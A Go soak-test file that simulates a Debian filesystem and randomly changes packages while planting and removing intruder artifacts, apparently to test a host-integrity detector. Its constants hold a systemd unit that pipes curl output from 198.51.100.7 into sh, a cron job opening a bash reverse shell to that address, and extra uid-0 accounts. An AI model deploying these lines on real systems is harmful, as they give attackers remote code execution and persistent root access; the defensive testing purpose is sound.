package soak

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
)

// world is the device's tree, and how the soak changes it. Each change is written down after it
// was made: what the agent knows before that is known too early to be lost.
type world struct {
	root     string
	rng      *rand.Rand
	packages map[string]int  // name to version, of those that the soak installed
	plants   map[string]bool // name to whether it is there
	next     int
	log      []did
	base     string // the records of the packages that stay
}

// The world's bounds: beyond them more goes than comes.
const (
	basePackages = 300
	maxPackages  = 40
	plantsOfKind = 4
)

const (
	evilUnit = "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n"
	evilCron = "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'\n"
	passwd   = "root:x:0:0:root:/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n"
	shadow   = "root:*:19000:0:99999:7:::\nann:*:19000:0:99999:7:::\n"
)

// newWorld makes a small Debian.
func newWorld(root string, rng *rand.Rand) (*world, error) {
	w := &world{root: root, rng: rng, packages: map[string]int{}, plants: map[string]bool{}}
	for _, dir := range []string{"bin", "dev", "proc", "tmp", "root", "home/ann", "run", "srv/sink", "usr/bin", "usr/share", "etc/cron.d", "etc/picket",
		"etc/systemd/system/multi-user.target.wants", "var/lib/dpkg/info", "var/lib/picket"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			return nil, err
		}
	}
	for _, kind := range []string{"unit", "cron", "user"} {
		for i := range plantsOfKind {
			w.plants[kind+"-"+strconv.Itoa(i)] = false
		}
	}
	var all strings.Builder
	for i := range basePackages {
		name := "base-" + strconv.Itoa(i)
		all.WriteString(stanza(name, "1.0-1"))
		if err := w.write("var/lib/dpkg/info/"+name+".list", "/.\n/usr\n/usr/share\n/usr/share/"+name+"\n"); err != nil {
			return nil, err
		}
	}
	w.base = all.String()
	for name, content := range map[string]string{"etc/os-release": "ID=debian\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\n",
		"etc/group": "root:x:0:\nann:x:1000:\n", "var/lib/dpkg/status": w.base, "etc/passwd": passwd, "etc/shadow": shadow} {
		if err := w.write(name, content); err != nil {
			return nil, err
		}
	}
	return w, nil
}

func stanza(name, version string) string {
	return fmt.Sprintf("Package: %s\nStatus: install ok installed\nPriority: optional\nSection: misc\nMaintainer: Somebody <somebody@example.org>\nArchitecture: amd64\nVersion: %s\nDescription: a package\n\n", name, version)
}

// write replaces a file as package managers do: beside, and then in its place. Beside it has a name
// that cron and systemd pass over: a scan in between would rightly tell of a planted job of any other name.
func (w *world) write(name, content string) error {
	path := filepath.Join(w.root, name)
	beside := filepath.Join(filepath.Dir(path), "."+filepath.Base(path)+".new")
	if err := os.WriteFile(beside, []byte(content), 0o644); err != nil {
		return err
	}
	return os.Rename(beside, path)
}

func (w *world) did(subject, state string) { w.log = append(w.log, did{done, subject, state}) }

// step changes one thing.
func (w *world) step() error {
	switch w.rng.IntN(10) {
	case 0, 1, 2, 3, 4, 5:
		return w.changePackages()
	case 6, 7, 8:
		return w.togglePlant()
	}
	// What is nobody's business: files that come and change.
	return w.write("tmp/file-"+strconv.Itoa(w.rng.IntN(20)), strings.Repeat("x", w.rng.IntN(1000)))
}

// changePackages adds, upgrades or removes one to three packages at once, as a package manager does.
func (w *world) changePackages() error {
	type gone struct{ subject, state, list string }
	var changes []gone
	for range 1 + w.rng.IntN(3) {
		names := slices.DeleteFunc(sortedKeys(w.packages), func(n string) bool {
			return slices.ContainsFunc(changes, func(c gone) bool { return c.subject == "package "+n })
		})
		what := w.rng.IntN(3)
		switch {
		case len(names) == 0 || what == 0 && len(names) < maxPackages:
			w.next++
			name := "soak-" + strconv.Itoa(w.next)
			if err := w.write("var/lib/dpkg/info/"+name+".list", "/.\n/usr\n/usr/share\n/usr/share/"+name+"\n"); err != nil {
				return err
			}
			w.packages[name] = 1
			changes = append(changes, gone{"package " + name, "1", ""})
		case what == 1:
			name := names[w.rng.IntN(len(names))]
			w.packages[name]++
			changes = append(changes, gone{"package " + name, strconv.Itoa(w.packages[name]), ""})
		default:
			name := names[w.rng.IntN(len(names))]
			delete(w.packages, name)
			changes = append(changes, gone{"package " + name, "", "var/lib/dpkg/info/" + name + ".list"})
		}
	}
	status := w.base
	for _, name := range sortedKeys(w.packages) {
		status += stanza(name, strconv.Itoa(w.packages[name]))
	}
	if err := w.write("var/lib/dpkg/status", status); err != nil {
		return err
	}
	for _, c := range changes {
		w.did(c.subject, c.state)
		if c.list != "" {
			if err := os.Remove(filepath.Join(w.root, c.list)); err != nil {
				return err
			}
		}
	}
	return nil
}

// togglePlant plants what an intruder would, or takes it away.
func (w *world) togglePlant() error {
	names := sortedKeys(w.plants)
	name := names[w.rng.IntN(len(names))]
	w.plants[name] = !w.plants[name]
	var err error
	switch kind, _, _ := strings.Cut(name, "-"); kind {
	case "unit":
		err = w.plant("etc/systemd/system/"+name+".service", evilUnit, w.plants[name])
	case "cron":
		err = w.plant("etc/cron.d/"+name, evilCron, w.plants[name])
	default:
		accounts, secrets := passwd, shadow
		for _, user := range names {
			if strings.HasPrefix(user, "user-") && w.plants[user] {
				accounts += user + ":x:0:0::/root:/bin/sh\n"
				secrets += user + ":!:20000::::::\n"
			}
		}
		if err = w.write("etc/shadow", secrets); err == nil {
			err = w.write("etc/passwd", accounts)
		}
	}
	if err != nil {
		return err
	}
	state := ""
	if w.plants[name] {
		state = "there"
	}
	w.did("plant "+name, state)
	return nil
}

func (w *world) plant(path, content string, there bool) error {
	if there {
		return w.write(path, content)
	}
	return os.Remove(filepath.Join(w.root, path))
}

// now gives the state of each subject as the world has it.
func (w *world) now() map[string]string {
	out := map[string]string{}
	for name, version := range w.packages {
		out["package "+name] = strconv.Itoa(version)
	}
	for name, there := range w.plants {
		if there {
			out["plant "+name] = "there"
		}
	}
	return out
}

func sortedKeys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}
